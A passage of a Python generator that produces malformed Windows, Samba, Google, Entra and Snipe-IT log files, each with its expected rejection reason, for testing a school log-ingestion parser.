            "TargetDomainName": "BPS", "LogonType": "3", "WorkstationName": f"LT-{i:04d}",
            "IpAddress": f"10.10.1.{i % 250 + 1}", "IpPort": "49152"}
    if code == "4625":
        data.update({"Status": "0xc000006d", "SubStatus": "0xc000006a"})
    return {"@timestamp": iso_ms(at(i)) if ts is None else ts,
            "event": {"code": code, "kind": "event"},
            "host": {"name": "DC01.bps.local"},
            "winlog": {"channel": "Security", "computer_name": "DC01.bps.local",
                       "event_id": code, "record_id": 5_000_000 + i, "event_data": data}}


def winlogbeat(rng: random.Random, n: int) -> list[BadFile]:
    def w(i: int, **kw: Any) -> str:
        return dumps(win_doc(i, **kw))

    makers = json_corruptions(rng, w)
    makers += [
        lambda i: dead(w(i, ts=ISO_TIMES[i % len(ISO_TIMES)][0]), "time",
                       ISO_TIMES[i % len(ISO_TIMES)][1]),
        lambda i: dead(w(i, ts=1795285208), "time-number", "missing or not text"),
        lambda i: dead(w(i, ts={"$date": 1}), "time-object", "missing or not text"),
        lambda i: dead(w(i, ts="2026-11-16T09:00:00"), "time-no-zone", "has no time zone"),
        lambda i: dead(w(i, code=[4624]), "code-list", "no event.code"),
        lambda i: dead(w(i, code=True), "code-bool", "no event.code"),
        lambda i: dead(w(i, code=4624.5), "code-float", "no event.code"),
        lambda i: dead(w(i, code="4672"), "code-unsupported", "unsupported event code"),
        lambda i: invalid(dumps({"@timestamp": iso_ms(at(i)), "event": {"code": 4624},
                                 "winlog": {"event_data": f"pupil{i}"}}), "event-data-text"),
        lambda i: invalid(w(i, user={"name": "x"}), "user-object"),
    ]
    recs = [event(w(i), "valid") for i in range(20)]
    recs.append(event(w(20, code="4625", user="-"), "valid-4625-without-user"))
    recs.append(event(w(21, ts=FIRST_INSTANT), "valid-2000-01-01"))
    recs.append(event(w(22, code=4624), "valid-code-number"))
    recs.append(skipped("", "blank"))
    recs += [event(w(1000 + k, user=p), "inject-user", ("user_name", p.strip()))
             for k, p in enumerate(INJECTIONS)]
    recs += cycle(n, makers)
    return [BadFile("auth:winlogbeat", "winlogbeat.ndjson", recs)]


def samba_rec(i: int, *, ts: Any = None, status: Any = "NT_STATUS_OK", user: Any = None,
              kind: str = "Authentication", body: Any = None) -> dict[str, Any]:
    auth = {"version": {"major": 1, "minor": 2}, "eventId": 4624, "logonType": 3,
            "status": status, "remoteAddress": f"ipv4:10.10.1.{i % 250 + 1}:49152",
            "serviceDescription": "Kerberos KDC", "clientDomain": "BPS",
            "clientAccount": f"pupil{i}" if user is None else user,
            "workstation": f"LT-{i:04d}"}
    return {"timestamp": at(i).strftime("%Y-%m-%dT%H:%M:%S.%f+0000") if ts is None else ts,
            "type": kind, kind: auth if body is None else body}


def samba(rng: random.Random, n: int) -> list[BadFile]:
    def s(i: int, **kw: Any) -> str:
        return dumps(samba_rec(i, **kw))

    # text that is neither JSON nor a `JSON <type>:` line is debug output, not a record
    makers = json_corruptions(rng, s, huge="{" + HUGE_JSON, not_objects=(), junk=False)
    makers += [
        lambda i: dead(s(i, ts=ISO_TIMES[i % len(ISO_TIMES)][0]), "time",
                       ISO_TIMES[i % len(ISO_TIMES)][1]),
        lambda i: dead(s(i, ts=0), "time-number", "missing or not text"),
        lambda i: dead(s(i, kind="dsdbChange"), "type", "unsupported audit type"),
        lambda i: dead(s(i, body=[1]), "body-list", "no Authentication object"),
        lambda i: dead(s(i, status=None), "status-null", "has no status"),
        lambda i: dead(s(i, status=["NT_STATUS_OK"]), "status-list", "has no status"),
        lambda i: dead("  JSON Authentication: " + s(i)[:-5], "marker-truncated", BAD_JSON),
        lambda i: dead("\ufeff" + s(i)[:40], "bom-truncated", BAD_JSON),
        lambda i: invalid(s(i, user={"n": 1}), "user-object"),
    ]
    recs = [event(s(i), "valid") for i in range(10)]
    recs += [event("  JSON Authentication: " + s(10 + i), "valid-debug-line") for i in range(5)]
    recs.append(event("\ufeff" + s(15), "valid-after-bom"))
    recs.append(event(s(16, ts="2000-01-01T00:00:00.000000+0000"), "valid-2000-01-01"))
    recs.append(event(s(17, status="NT_STATUS_WRONG_PASSWORD"), "valid-failure"))
    recs += [skipped(f"[{BASE:%Y/%m/%d %H:%M:%S}.000000,  3] ../../auth/auth_log.c:635"
                     f"(log_authentication_event_json)", "debug-header"),
             skipped("  Successful AuthZ: [SMB2,NTLMSSP] user [BPS]\\[pupil1]", "debug-text"),
             skipped(junk_text(rng), "junk-text"), skipped("", "blank")]
    recs += [event(s(1000 + k, user=p), "inject-user", ("user_name", p.strip()))
             for k, p in enumerate(INJECTIONS)]
    recs += cycle(n, makers)
    return [BadFile("auth:samba", "samba-auth.log", recs)]


def g_act(i: int, *, time: Any = None, email: Any = None, app: Any = "login",
          events: Any = None) -> dict[str, Any]:
    """A Reports API login activity."""
    return {"kind": "admin#reports#activity",
            "id": {"time": iso_ms(at(i)) if time is None else time,
                   "uniqueQualifier": str(-(10**17) - i * 7919), "applicationName": app,
                   "customerId": "C03az79cb"},
            "actor": {"email": f"pupil{i}@pupils.bps.example" if email is None else email,
                      "profileId": str(10**20 + i)},
            "ipAddress": f"10.10.1.{i % 250 + 1}",
            "events": [{"type": "login", "name": "login_success",
                        "parameters": [{"name": "login_type", "value": "google_password"}]}]
            if events is None else events}


def google_malformed(a: Callable[..., str]) -> list[Maker]:
    """Activities that are one record each and must be dead letters."""
    return [
        lambda i: dead(a(i, time=ISO_TIMES[i % len(ISO_TIMES)][0]), "time",
                       ISO_TIMES[i % len(ISO_TIMES)][1]),
        lambda i: dead(a(i, time=1795285208), "time-number", "missing or not text"),
        lambda i: dead(a(i, app="drive"), "application", "unsupported application"),
        lambda i: dead(a(i, app=5), "application-number", "unsupported application"),
        lambda i: dead(a(i, events=[]), "no-events", "has no events"),
        lambda i: dead(a(i, events={"name": "login_success"}), "events-object",
                       "has no events"),
        lambda i: dead(a(i, events=[{"name": None}]), "event-without-name", "has no name"),
        lambda i: dead(a(i, events=[7]), "event-number", "has no name"),
        lambda i: invalid(a(i, email=f"pupil {i} at school"), "actor-not-email"),
        lambda i: invalid(a(i, email=""), "actor-empty"),
    ]


def google_injections(a: Callable[..., str], start: int) -> list[Rec]:
    out = []
    for k, p in enumerate(INJECTIONS):
        email = p + "@pupils.bps.example"
        if _EMAIL.fullmatch(email.strip()):
            out.append(event(a(start + k, email=email), "inject-user",
                             ("user_name", email.strip())))
        else:  # not an email address: the quality suite refuses it
            out.append(invalid(a(start + k, email=email), "inject-user-not-email"))
    return out


def google(rng: random.Random, n: int) -> list[BadFile]:
    def a(i: int, **kw: Any) -> str:
        return dumps(g_act(i, **kw))

    makers = json_corruptions(rng, a, huge_reason=BAD_JSON)  # pages may be 16 MB lines
    makers += google_malformed(a)
    makers += [
        lambda i: dead(dumps({"kind": "admin#reports#activities", "items": "none", "n": i}),
                       "items-text", "items is not a list"),
        lambda i: dead(dumps({"nextPageToken": f"t{i}"}), "neither",
                       "not a Reports API response or activity"),
        lambda i: Rec((dumps({"kind": "admin#reports#activities", "items": [
            g_act(i), g_act(i + 1, app="drive"), g_act(i + 2, time="9999-12-31T23:59:59Z")]})
            + "\n").encode(), "page-mixed", records=3, events=1,
            reason=r"unsupported application|in the future"),
    ]
    recs = [event(a(i), "valid") for i in range(20)]
    recs.append(event(a(20, time=FIRST_INSTANT), "valid-2000-01-01"))
    recs.append(Rec((a(21, events=[{"name": "login_success"}, {"name": None}]) + "\n").encode(),
                    "two-events-one-bad", records=2, events=1, reason="event 1 has no name"))
    recs += [skipped(dumps({"kind": "admin#reports#activities", "items": []}), "empty-page"),
             skipped(dumps({"kind": "admin#reports#activities"}), "page-without-items"),
             skipped("", "blank")]
    recs += google_injections(a, 1000)
    recs += cycle(n, makers)
    return [BadFile("auth:google", "google-login.ndjson", recs)]


def google_json(rng: random.Random, n: int) -> list[BadFile]:
    """Whole files: a response, an array, a truncated response, NDJSON, UTF-16, junk."""
    items: list[tuple[Any, int, int, str]] = []  # activity, records, events, reason
    items += [(g_act(5000 + i), 1, 1, "") for i in range(20)]
    items.append((g_act(5020, time=FIRST_INSTANT), 1, 1, ""))
    items.append((g_act(5021, events=[{"name": "login_success"}, {"name": ""}]), 2, 1,
                  "event 1 has no name"))
    for k, p in enumerate(INJECTIONS):
        ok = bool(_EMAIL.fullmatch((p + "@pupils.bps.example").strip()))
        items.append((g_act(5100 + k, email=p + "@pupils.bps.example"), 1, int(ok),
                      "" if ok else VALIDATE))
    malformed: list[Callable[[int], tuple[Any, str]]] = [
        lambda i: (g_act(i, time=ISO_TIMES[i % len(ISO_TIMES)][0]),
                   ISO_TIMES[i % len(ISO_TIMES)][1]),
        lambda i: ({**g_act(i), "id": [1, i]}, "missing or not text"),
        lambda i: (g_act(i, app=5), "unsupported application"),
        lambda i: (g_act(i, events="login_success"), "has no events"),
        lambda i: (g_act(i, events=[{"name": ["login_success"]}]), "has no name"),
        lambda i: (g_act(i, events=[[]]), "has no name"),
        lambda i: (i, "activity is not a JSON object"),
        lambda i: (f"activity {i}", "activity is not a JSON object"),
        lambda i: ([i, "x"], "activity is not a JSON object"),
    ]
    k = 0
    while sum(r - e for _, r, e, _ in items) < n // 2:
        item, why = malformed[k % len(malformed)](CYCLE_START + k)
        items.append((item, 1, 0, why))
        k += 1
    rng.shuffle(items)
    response = {"kind": "admin#reports#activities", "items": [x[0] for x in items]}
    reasons = sorted({x[3] for x in items if x[3]})
    files = [BadFile("auth:google-json", "google-document.json", [Rec(
        (json.dumps(response, indent=2, ensure_ascii=False) + "\n").encode(), "document",
        records=sum(x[1] for x in items), events=sum(x[2] for x in items),
        reason="|".join(reasons), validate=sum(1 for x in items if x[3] == VALIDATE))])]

    # a top-level array of activities and responses, with non-objects in it
    bad: list[Any] = [1, "x", None, True, [], {}, 2.5, [1, 2], {"items": 3}]
    arr = [g_act(7000 + i) for i in range(5)]
    arr += [{"kind": "admin#reports#activities", "items": [g_act(7010), g_act(7011)]}, *bad]
    files.append(BadFile("auth:google-json", "google-array.json", [Rec(
        (json.dumps(arr, indent=1) + "\n").encode(), "array", records=7 + len(bad), events=7,
        reason=r"expected a JSON object|not a Reports API|items is not a list")]))

    # truncated mid-document: not one JSON value, so NDJSON, every non-blank line a record
    text = json.dumps({"kind": "admin#reports#activities",
                       "items": [g_act(7100 + i) for i in range(60)]}, indent=2)
    lines = text[: rng.randrange(len(text) // 2, len(text) - 10)].split("\n")
    truncated = [dead(line, "document-line", BAD_JSON) for line in lines[:-1]]
    truncated.append(dead(lines[-1], "document-line", BAD_JSON, newline=False)
                     if lines[-1].strip() else skipped(lines[-1], "blank", newline=False))
    files.append(BadFile("auth:google-json", "google-truncated.json", truncated))

    # NDJSON; U+2028, U+2029 and U+0085 inside strings do not break lines
    def a(i: int, **kw: Any) -> str:
        return dumps(g_act(i, **kw))

    nd = [event(a(7200 + i), "valid") for i in range(5)]
    for k, sep in enumerate(("\u2028", "\u2029", "\x85")):
        ev = [{"type": "login", "name": "login_success",
               "parameters": [{"name": "login_type", "value": f"google{sep}password"}]}]
        nd.append(event(a(7210 + k, events=ev), f"valid-u{ord(sep):04x}-in-a-string"))
    nd += google_injections(a, 7300)
    nd.append(skipped("", "blank"))
    nd += cycle(n // 4, json_corruptions(rng, a, huge_reason=BAD_JSON) + google_malformed(a),
                start=CYCLE_START + 5000)
    files.append(BadFile("auth:google-json", "google-ndjson.json", nd))

    # a response saved as UTF-16: the BOM line is not UTF-8, the others are junk
    small = json.dumps({"kind": "admin#reports#activities", "items": [g_act(7900)]},
                       indent=2) + "\n"
    pieces = small.encode("utf-16").split(b"\n")
    files.append(BadFile("auth:google-json", "google-utf16.json", [
        dead(pieces[0], "utf-16-bom-line", NOT_UTF8),
        *(dead(p, "utf-16-line", BAD_JSON) for p in pieces[1:-1]),
        dead(pieces[-1], "utf-16-line", BAD_JSON, newline=False)]))
    files.append(BadFile("auth:google-json", "google-binary.json",
                         [dead(binary(rng), "binary", NOT_UTF8) for _ in range(40)]))
    return files


def entra_rec(i: int, *, time: Any = None, upn: Any = None, category: Any = "SignInLogs",
              code: Any = 0, props: Any = None) -> dict[str, Any]:
    """A SignInLogs record of a diagnostic-settings export."""
    t = iso_ms(at(i)) if time is None else time
    p = {"id": f"00000000-0000-4000-a000-{i:012d}", "createdDateTime": t,
         "userPrincipalName": f"pupil{i}@bps.example" if upn is None else upn,
         "appDisplayName": "SIMS", "ipAddress": f"10.10.1.{i % 250 + 1}",
         "status": {"errorCode": code}, "clientAppUsed": "Browser", "isInteractive": True,
         "deviceDetail": {"displayName": f"LT-{i:04d}", "operatingSystem": "Windows10"}}
    return {"time": t, "operationName": "Sign-in activity", "category": category,
            "resultType": str(code) if isinstance(code, int) else code,
            "callerIpAddress": f"10.10.1.{i % 250 + 1}", "Level": 4,
            "properties": p if props is None else props}


def entra(rng: random.Random, n: int) -> list[BadFile]:
    def e(i: int, **kw: Any) -> str:
        return dumps(entra_rec(i, **kw))

    makers = json_corruptions(rng, e, huge_reason=BAD_JSON)  # batches may be 16 MB lines
    makers += [
        lambda i: dead(e(i, time=ISO_TIMES[i % len(ISO_TIMES)][0]), "time",
                       ISO_TIMES[i % len(ISO_TIMES)][1]),
        lambda i: dead(e(i, category="AuditLogs"), "category", "unsupported category"),
        lambda i: dead(e(i, category=None).replace('"Sign-in activity"', '"Update user"'),
                       "category-null", "unsupported category"),
        lambda i: dead(e(i, props=[i]), "properties-list", "no properties object"),
        lambda i: dead(e(i, code={"x": 1}), "code-object", "no status.errorCode"),
        lambda i: dead(e(i, code="AADSTS"), "code-text", "no status.errorCode"),
        lambda i: dead(dumps({"records": f"r{i}"}), "records-text", "records is not a list"),
        lambda i: Rec((dumps({"records": [entra_rec(i), entra_rec(i + 1, category="Audit"),
                                          i, entra_rec(i + 2, time="1900-01-01T00:00:00Z")]})
                       + "\n").encode(), "batch-mixed", records=4, events=1,
                      reason=r"unsupported category|not a JSON object|before 2000"),
        lambda i: invalid(e(i, upn={"a": 1}), "upn-object"),
    ]
    recs = [event(e(i), "valid") for i in range(15)]
    recs.append(event(e(15, time=FIRST_INSTANT), "valid-2000-01-01"))
    recs.append(event(e(16, time="2026-11-16T09:00:00.1234567"), "valid-no-zone-is-utc"))
    recs.append(event(e(17, time="11/16/2026 9:00:00 AM"), "valid-us-format"))
    recs.append(event(e(18, code=50126), "valid-failure"))
    recs.append(Rec((dumps({"records": [entra_rec(19), entra_rec(20)]}) + "\n").encode(),
                    "valid-batch", records=2, events=2))
    recs += [skipped(dumps({"records": []}), "empty-batch"), skipped("", "blank")]
    recs += [event(e(1000 + k, upn=p), "inject-user", ("user_name", p.strip()))
             for k, p in enumerate(INJECTIONS)]
    recs += cycle(n, makers)
    return [BadFile("auth:entra", "entra-signins.ndjson", recs)]


def snipe_row(i: int, *, when: Any = None, target: Any = None, item: Any = None,
              log_id: Any = None) -> dict[str, Any]:
    """A row of GET /api/v1/reports/activity (ActionlogsTransformer), local time."""
    stamp = ({"datetime": f"{at(i):%Y-%m-%d %H:%M:%S}", "formatted": "Mon Nov 16, 2026"}
             if when is None else when)
    return {"id": 10_000 + i if log_id is None else log_id,
            "item": {"id": i, "name": f"Dell Latitude 5440 (LT-{i:04d})", "type": "asset"}
            if item is None else item,
            "action_type": "checkout", "admin": {"id": 1, "name": "IT Office"},
            "target": {"id": 100 + i, "name": f"Pupil {i}", "type": "user"}
            if target is None else target,
            "note": None, "log_meta": None, "action_date": stamp, "created_at": stamp}


def snipeit_api(rng: random.Random, n: int) -> list[BadFile]:
    def r(i: int, **kw: Any) -> str:
        return dumps(snipe_row(i, **kw))

    syntax = "not Snipe-IT activity JSON"
    makers = json_corruptions(rng, r, syntax=syntax, huge_reason=syntax,
                              not_objects=('"text"', "42", "null", "true"),
                              not_object_reason=syntax)
    times = [("9999-12-31 23:59:59", FUTURE), ("1900-01-01 00:00:00", ANCIENT),
             ("1970-01-01 00:00:00", ANCIENT), ("0000-00-00 00:00:00", "Y-m-d H:i:s"),
             ("2026-02-30 10:00:00", "Y-m-d H:i:s"), ("", "no created_at")]
    makers += [
        lambda i: dead(r(i, when={"datetime": times[i % len(times)][0]}), "time",
                       times[i % len(times)][1]),
        lambda i: dead(r(i, when=[i]), "time-list", "no created_at"),
        lambda i: dead(r(i, when=1795285208), "time-number", "Y-m-d H:i:s"),
        lambda i: dead(dumps({"total": 1, "rows": {"id": i}}), "rows-object", "not a list"),
        lambda i: dead(dumps([i, f"row {i}"]), "rows-not-objects", "not a JSON object",
                       records=2),
        lambda i: Rec((dumps({"total": 3, "rows": [
            snipe_row(i), snipe_row(i + 1, when={"datetime": "9999-12-31 23:59:59"}),
            f"row {i}"]}) + "\n").encode(), "page-mixed", records=3, events=1,
            reason=r"in the future|not a JSON object"),
        lambda i: invalid(r(i, log_id=""), "without-log-id"),
        lambda i: invalid(r(i, item={"name": "Dell Latitude (two words)", "type": "asset"}),
                          "asset-without-tag"),
    ]
    recs = [event(r(i), "valid") for i in range(20)]
    recs.append(event(r(20, when={"datetime": "2000-01-01 00:00:00"}), "valid-2000-01-01"))
    recs.append(Rec((dumps({"total": 2, "rows": [snipe_row(21), snipe_row(22)]}) + "\n")
                    .encode(), "valid-page", records=2, events=2))
    recs += [skipped(dumps({"total": 0, "rows": []}), "empty-page"), skipped("", "blank")]
    recs += [event(r(1000 + k, target={"id": 1, "name": html.escape(p), "type": "user"}),
                   "inject-user", ("user_name", p.strip()))  # Snipe-IT escapes names (e())
             for k, p in enumerate(INJECTIONS) if not _ASSET_NAME.search(p)]
    recs += cycle(n, makers)
    return [BadFile("device:snipeit-api", "snipeit-activity.ndjson", recs)]


# --------------------------------------------------------------------------------- all

FORMATS: dict[str, Callable[[random.Random, int], list[BadFile]]] = {
    "filter:squid": squid, "filter:e2guardian": e2guardian, "filter:squidguard": squidguard,
    "filter:fortigate": fortigate, "filter:csv": filter_csv, "auth:winlogbeat": winlogbeat,
    "auth:samba": samba, "auth:google": google, "auth:google-json": google_json,
    "auth:entra": entra, "device:snipeit-api": snipeit_api, "device:snipeit-csv": snipeit_csv,
    "incident:csv": incidents,
}


def build(seed: int = 7, per_format: int = 800) -> list[BadFile]:
    """Every format's files; the same seed gives the same bytes."""
    files: list[BadFile] = []
    for k, (source, make) in enumerate(FORMATS.items()):
        made = make(random.Random(seed * 100 + k), per_format)
        assert all(f.source == source for f in made)
        files.extend(made)
    return files
